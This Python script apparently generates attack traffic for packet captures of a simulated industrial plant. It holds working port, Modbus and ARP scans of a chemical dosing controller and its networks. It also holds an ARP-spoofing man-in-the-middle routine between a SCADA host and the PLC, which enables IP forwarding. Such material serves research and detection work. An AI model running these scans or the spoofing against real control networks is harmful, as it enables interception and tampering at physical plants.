"""Attacks below the protocols: port, address and ARP scans, and ARP spoofing with forwarding (man in the middle)."""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

from pcaps.plant import hosts

SCANNED_PORTS = (
    20, 21, 22, 23, 24, 25, 53, 80, 81, 102, 110, 111, 135, 139, 143, 161, 443, 445, 502, 503, 993, 1025, 1433, 1883,
    2222, 2404, 3306, 3389, 4840, 5000, 5060, 5432, 5900, 5985, 8000, 8080, 8443, 9100, 20000, 44818,
)  # fmt: skip
SCANNED_SITE = tuple(f"10.20.3.{last}" for last in range(30, 110))
SCANNED_CELL = tuple(f"10.20.1.{last}" for last in range(100, 200))
SPOOF_ROUNDS = 14
ETHER_ARP, REQUEST, REPLY = 0x0806, 1, 2
BROADCAST, NOBODY = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _arp(operation: int, sender: tuple[str, str], target: tuple[str, str], destination: str) -> bytes:
    """Return one ARP frame sent by the laptop; sender and target are (MAC, IP)."""
    body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
    for mac, ip in (sender, target):
        body += _mac(mac) + socket.inet_aton(ip)
    return _mac(destination) + _mac(hosts.LAPTOP.mac) + ETHER_ARP.to_bytes(2, "big") + body


def _wire() -> socket.socket:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))
    return wire


def _try(address: tuple[str, int], wait_seconds: float) -> None:
    with socket.socket() as attempt:
        attempt.settimeout(wait_seconds)
        attempt.connect_ex(address)


def ports() -> None:
    """Try forty ports of the dosing controller."""
    for port in SCANNED_PORTS:
        _try((hosts.PLC_CHEM.ip, port), 0.3)
        time.sleep(0.1)


def site() -> None:
    """Try the Modbus port of eighty addresses of the site network, through the router."""
    for ip in SCANNED_SITE:
        _try((ip, 502), 0.1)


def arp() -> None:
    """Ask for a hundred addresses of the cell."""
    with _wire() as wire:
        for ip in SCANNED_CELL:
            wire.send(_arp(REQUEST, (hosts.LAPTOP.mac, hosts.LAPTOP.ip), (NOBODY, ip), BROADCAST))
            time.sleep(0.06)


def spoof() -> None:
    """Stand between scada-1 and plc-chem for fourteen seconds, forward everything, then put the tables right again."""
    for setting in ("all/send_redirects", "eth0/send_redirects"):
        Path(f"/proc/sys/net/ipv4/conf/{setting}").write_text("0", encoding="ascii")
    Path("/proc/sys/net/ipv4/ip_forward").write_text("1", encoding="ascii")
    pairs = ((hosts.SCADA, hosts.PLC_CHEM), (hosts.PLC_CHEM, hosts.SCADA))
    with _wire() as wire:
        for _ in range(SPOOF_ROUNDS):
            for victim, claimed in pairs:
                wire.send(_arp(REPLY, (hosts.LAPTOP.mac, claimed.ip), (victim.mac, victim.ip), victim.mac))
            time.sleep(1)
        for _ in range(2):
            for victim, claimed in pairs:
                wire.send(_arp(REPLY, (claimed.mac, claimed.ip), (victim.mac, victim.ip), victim.mac))
            time.sleep(1.5)


ACTIONS: dict[str, Callable[[], None]] = {action.__name__: action for action in (ports, site, arp, spoof)}


if __name__ == "__main__":
    ACTIONS[sys.argv[1]]()
